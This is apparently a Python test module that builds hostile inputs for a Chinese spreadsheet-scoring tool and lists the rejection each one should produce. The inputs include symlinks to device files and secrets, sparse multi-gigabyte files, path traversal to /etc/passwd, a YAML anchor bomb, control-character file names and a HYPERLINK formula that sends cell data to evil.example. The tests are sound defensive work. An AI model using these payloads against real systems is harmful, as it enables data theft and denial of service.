"""Hostile inputs at the trust boundary (issues 15 and 16): what discovery, the report writers, the case-file
loader and the number grammar must survive.

`KINDS`: submissions for `lxbz validate` / `lxbz summary` / `lxbz score --from-workbook`; ``finding`` is
the finding code. `CASE_KINDS`: case files for `lxbz score`; ``finding`` is a phrase of the Chinese
message. Kinds that point outside the batch (symlinks) point at a canary in ``canary_dir(folder)``, a
sibling of the batch folder: the canary's content and hash must never appear in any output.
"""

from __future__ import annotations

import functools
import hashlib
import io
import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.hostile.kinds import HostileKind

GiB = 1024**3
CANARY_TEXT = "CANARY-7f3a9c-不应出现在任何输出中"
CANARY_UNIT = "金丝雀县委CANARY"
LPO = "learning_party_org"
MAIN = "xl/worksheets/sheet1.xml"
FORMULA_UNIT = '=HYPERLINK("http://evil.example/?"&A1,"click")'


# ------------------------------------------------------------------------------------------------ helpers


def _sheet_part(name: str) -> str:
    """The zip part of the template's sheet `name` (sheets are numbered by position, which layouts change)."""
    from lxbz_xl.workbook.build import DEFAULT_DIR, template_name

    with zipfile.ZipFile(DEFAULT_DIR / template_name(LPO, "udf")) as z:
        book = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(r'<sheet [^>]*name="' + re.escape(name) + r'"[^>]*r:id="([^"]+)"', book)
    assert rid, name
    target = re.search(r'<Relationship [^>]*Id="' + rid.group(1) + r'"[^>]*Target="([^"]+)"', rels)
    if target is None:  # attribute order differs
        target = re.search(r'Target="([^"]+)"[^>]*Id="' + rid.group(1) + r'"', rels)
    assert target, name
    return "xl/" + target.group(1).removeprefix("/xl/")


META = _sheet_part("_lxbz")


@functools.lru_cache(maxsize=4)
def good_bytes(unit: str | None = None) -> bytes:
    """A correctly filled learning_party_org submission (from the committed template and the example)."""
    import tempfile

    from lxbz_xl import load_rubric
    from lxbz_xl.case import read_case_file
    from lxbz_xl.workbook.build import DEFAULT_DIR, template_name
    from lxbz_xl.workbook.fill import fill_case

    examples = Path(__file__).resolve().parents[2] / "examples" / "cases"
    case = read_case_file(sorted(examples.glob(f"{LPO}_*.yaml"))[0])[0]
    if unit is not None:
        case.unit = unit
    with tempfile.TemporaryDirectory() as tmp:
        dst = Path(tmp) / "good.xlsx"
        fill_case(load_rubric(LPO), case, dst, "udf", DEFAULT_DIR / template_name(LPO, "udf"))
        return dst.read_bytes()


def good_workbook(folder: Path, name: str = "good.xlsx", unit: str | None = None) -> Path:
    path = folder / name
    path.write_bytes(good_bytes(unit))
    return path


def _edit(data: bytes, part: str, edit: Callable[[bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = zin.read(info)
            zout.writestr(info.filename, edit(body) if info.filename == part else body)
    return out.getvalue()


def _set_text(data: bytes, part: str, ref: str, text: str) -> bytes:
    """Put an inline string into cell ``ref`` (keeping its style)."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"([^>]*?)(?:/>|>.*?</c>)', re.S)

    def edit(body: bytes) -> bytes:
        def one(m: re.Match[bytes]) -> bytes:
            attrs = re.sub(rb'\s+t="[^"]*"', b"", m.group(1))
            inner = f'<is><t xml:space="preserve">{escaped}</t></is>'.encode()
            return b'<c r="' + ref.encode() + b'"' + attrs + b' t="inlineStr">' + inner + b"</c>"

        new, count = pattern.subn(one, body, count=1)
        assert count == 1, ref
        return new

    return _edit(data, part, edit)


def canary_dir(folder: Path) -> Path:
    """Outside the batch folder: what a symlink in the batch points at."""
    outside = folder.parent / f"{folder.name}-outside"
    outside.mkdir(exist_ok=True)
    secret = outside / "secret.txt"
    if not secret.exists():
        secret.write_text(CANARY_TEXT + "\n", encoding="utf-8")
        good_workbook(outside, "canary.xlsx", unit=CANARY_UNIT)
        (outside / "rubric.yml").write_text(f"id: {CANARY_TEXT}\n", encoding="utf-8")
    return outside


def canary_marks(folder: Path) -> list[str]:
    """Texts that must not appear in any output: the canary's content, unit and SHA-256s."""
    outside = canary_dir(folder)
    small = [p for p in sorted(outside.iterdir()) if p.is_file() and p.stat().st_size < 1024 * 1024]
    hashes = [hashlib.sha256(p.read_bytes()).hexdigest() for p in small]
    return [CANARY_TEXT, CANARY_UNIT, *hashes]


# ------------------------------------------------------------------------------------------------ builders


def fifo(folder: Path) -> Path:
    path = folder / "管道.xlsx"
    os.mkfifo(path)
    return path


def _link(folder: Path, name: str, target: str | Path) -> Path:
    path = folder / name
    os.symlink(target, path)
    return path


def link_dev_zero(folder: Path) -> Path:
    return _link(folder, "zero.xlsx", "/dev/zero")


def link_dev_urandom(folder: Path) -> Path:
    return _link(folder, "urandom.xlsx", "/dev/urandom")


def sparse_50gb(folder: Path) -> Path:
    path = folder / "sparse50g.xlsx"
    with path.open("wb") as fh:
        fh.write(b"PK\x03\x04")
        fh.truncate(50 * GiB)
    return path


def link_out_of_batch(folder: Path) -> Path:
    """A file symlink to a valid submission that lives elsewhere (its hash must not be published)."""
    return _link(folder, "elsewhere.xlsx", canary_dir(folder) / "canary.xlsx")


def link_to_secret(folder: Path) -> Path:
    """Like a link to /etc/passwd, but to a canary whose content the test knows."""
    return _link(folder, "passwd.xlsx", canary_dir(folder) / "secret.txt")


def link_loop(folder: Path) -> Path:
    return _link(folder, "loop", ".")


def linked_folder(folder: Path) -> Path:
    return _link(folder, "other_batch", canary_dir(folder))


def _bad_year(data: bytes) -> bytes:
    return _set_text(data, MAIN, "F2", "²")


def control_char_name(folder: Path) -> Path:
    """A file name with control characters (also BEL and ESC), XML specials and an RTL override."""
    path = folder / "单位\x01\x07\x1b[31m<&>\u202ekcap.xlsx"
    path.write_bytes(_bad_year(good_bytes()))
    return path


def markup_name(folder: Path) -> Path:
    path = folder / "[bold]红星[red]县委[link=x].xlsx"  # "/" cannot be in a file name
    path.write_bytes(_bad_year(good_bytes()))
    return path


def undecodable_name(folder: Path) -> Path:
    """A file name that is not UTF-8 (bytes from a zip made on a GBK system): lone surrogates in Python."""
    path = folder / os.fsdecode("报表".encode("gbk") + b"\xff.xlsx")
    path.write_bytes(_bad_year(good_bytes()))
    return path


def formula_unit(folder: Path) -> Path:
    """The unit cell holds a formula-looking text; it must reach 问题清单.xlsx as a string."""
    path = folder / "formula_unit.xlsx"
    path.write_bytes(_bad_year(_set_text(good_bytes(), MAIN, "B2", FORMULA_UNIT)))
    return path


def markup_unit(folder: Path) -> Path:
    """The unit cell holds rich markup, an RTL mark and a leading tab."""
    path = folder / "markup_unit.xlsx"
    path.write_bytes(_bad_year(_set_text(good_bytes(), MAIN, "B2", "\t[red]某县[/red]\u200f[/]委")))
    return path


def rubric_path_in_meta(folder: Path) -> Path:
    """The hidden _lxbz sheet names a path (the canary's .yml) as its rubric."""
    path = folder / "meta_path.xlsx"
    target = str(canary_dir(folder) / "rubric.yml")
    path.write_bytes(_set_text(good_bytes(), META, "B1", target))
    return path


def rubric_etc_passwd_in_meta(folder: Path) -> Path:
    path = folder / "meta_passwd.xlsx"
    path.write_bytes(_set_text(good_bytes(), META, "B1", "/etc/passwd"))
    return path


def sparse_rubric_in_meta(folder: Path) -> Path:
    """The _lxbz sheet names a 30 GiB sparse .yml outside the batch as its rubric."""
    outside = canary_dir(folder)
    huge = outside / "huge.yml"
    if not huge.exists():
        with huge.open("wb") as fh:
            fh.truncate(30 * GiB)
    path = folder / "meta_sparse.xlsx"
    path.write_bytes(_set_text(good_bytes(), META, "B1", str(huge)))
    return path


def year_superscript(folder: Path) -> Path:
    path = folder / "year_sup.xlsx"
    path.write_bytes(_bad_year(good_bytes()))
    return path


def year_5000_digits(folder: Path) -> Path:
    path = folder / "year_long.xlsx"
    path.write_bytes(_set_text(good_bytes(), MAIN, "F2", "9" * 5000))
    return path


KINDS: list[HostileKind] = [
    HostileKind("fifo", fifo, "not_a_file"),
    HostileKind("symlink_dev_zero", link_dev_zero, "symlink"),
    HostileKind("symlink_dev_urandom", link_dev_urandom, "symlink"),
    HostileKind("sparse_50gb", sparse_50gb, "too_large"),
    HostileKind("symlink_out_of_batch", link_out_of_batch, "symlink"),
    HostileKind("symlink_to_secret", link_to_secret, "symlink"),
    HostileKind("symlink_loop", link_loop, "symlink"),
    HostileKind("symlinked_folder", linked_folder, "symlink"),
    HostileKind("control_char_name", control_char_name, "input_invalid"),
    HostileKind("markup_name", markup_name, "input_invalid"),
    HostileKind("undecodable_name", undecodable_name, "input_invalid"),
    HostileKind("formula_unit", formula_unit, "input_invalid"),
    HostileKind("markup_unit", markup_unit, "input_invalid"),
    HostileKind("rubric_path_in_meta", rubric_path_in_meta, "unknown_rubric"),
    HostileKind("rubric_etc_passwd_in_meta", rubric_etc_passwd_in_meta, "unknown_rubric"),
    HostileKind("sparse_rubric_in_meta", sparse_rubric_in_meta, "unknown_rubric"),
    HostileKind("year_superscript", year_superscript, "input_invalid"),
    HostileKind("year_5000_digits", year_5000_digits, "number_out_of_range"),
]


# ------------------------------------------------------------------------------------------------ case files

_HEAD = "rubric: learning_team\nunit: 某县委\nyear: 2025\n"


def _case(name: str, text: str | bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text, encoding="utf-8")
        return path

    return make


def _anchor_bomb() -> str:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 10)]
    return "rubric: learning_team\nyear: 2025\n" + "\n".join(lines) + "\nunit: *a9\n"


def _missing(folder: Path) -> Path:
    return folder / "不存在.yaml"


def _fifo_case(folder: Path) -> Path:
    path = folder / "pipe.yaml"
    os.mkfifo(path)
    return path


def _huge_case(folder: Path) -> Path:
    path = folder / "huge.yaml"
    with path.open("wb") as fh:
        fh.write(_HEAD.encode())
        fh.truncate(3 * 1024 * 1024 * 1024)
    return path


CASE_KINDS: list[HostileKind] = [
    HostileKind("case_missing", _missing, "文件不存在"),
    HostileKind(
        "case_not_utf8", _case("gbk.yaml", (_HEAD + "说明: 某县委员会办公室\n").encode("gb18030")), "UTF-8"
    ),
    HostileKind("case_anchor_bomb", _case("bomb.yaml", _anchor_bomb()), "别名"),
    HostileKind(
        "case_int_5000_digits",
        _case("int.yaml", _HEAD + "items:\n  1: {missing_elements: " + "9" * 5000 + "}\n"),
        "数字过长",
    ),
    HostileKind(
        "case_float_1e5000",
        _case("inf.yaml", _HEAD + "items:\n  1: {missing_elements: 1.0e+5000}\n"),
        "应为非负整数",
    ),
    HostileKind(
        "case_text_1e30000000",
        _case("exp.yaml", _HEAD + "items:\n  1: {missing_elements: 1e30000000}\n"),
        "应为非负整数",
    ),
    HostileKind(
        "case_year_superscript",
        _case("year.yaml", 'rubric: learning_team\nunit: 某县委\nyear: "²"\n'),
        "四位整数年份",
    ),
    HostileKind(
        "case_year_5000_digits",
        _case("year_long.yaml", 'rubric: learning_team\nunit: 某县委\nyear: "' + "9" * 5000 + '"\n'),
        "四位整数年份",
    ),
    HostileKind(
        "case_bool_count",
        _case("bool.yaml", _HEAD + "items:\n  1: {missing_elements: true}\n"),
        "布尔值",
    ),
    HostileKind(
        "case_malformed_yaml",
        _case("bad.yaml", "rubric: learning_team\nunit: [某县委\nyear: 2025\n"),
        "YAML",
    ),
    HostileKind(
        "case_rubric_path",
        _case("path.yaml", "rubric: ../../../etc/passwd\nunit: 某县委\nyear: 2025\n"),
        "不能是文件路径",
    ),
    HostileKind(
        "case_duplicate_key",
        _case("dup.yaml", _HEAD + "unit: 另一县委\n"),
        "重复",
    ),
    HostileKind(
        "case_deep_nesting",
        _case("deep.yaml", _HEAD + "items: " + "[" * 5000 + "]" * 5000 + "\n"),
        "嵌套",
    ),
    HostileKind(
        "case_json_huge_int",
        _case("big.json", '{"rubric": "learning_team", "year": ' + "9" * 5000 + "}"),
        "数字过长",
    ),
    HostileKind("case_fifo", _fifo_case, "不是普通文件"),
    HostileKind("case_huge_file", _huge_case, "文件过大"),
]
